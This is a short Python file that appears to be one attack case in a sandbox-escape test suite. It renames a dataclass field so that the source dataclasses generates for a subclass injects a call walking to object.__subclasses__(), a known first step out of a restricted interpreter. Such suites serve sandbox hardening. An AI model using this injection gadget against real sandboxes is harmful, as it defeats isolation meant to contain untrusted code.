# attack: rename the field of a dataclass, whose subclass then writes the name into source and runs it
# class: interpreter walk
# wall: fdless

from dataclasses import dataclass, field

spare = field(default=1)


@dataclass
class Base:
    spare: int = spare

    def hold(self, value):
        self.held = value
        return 1


def attack(frame, frame_index, config):
    spare.name = "hold((1)._" + "_class_" + "_._" + "_base_" + "_._" + "_subclasses_" + "_())"

    @dataclass(init=False, eq=False)
    class Sub(Base):
        pass

    found = Sub()
    repr(found)
    return f"inside: {len(found.held)} classes"
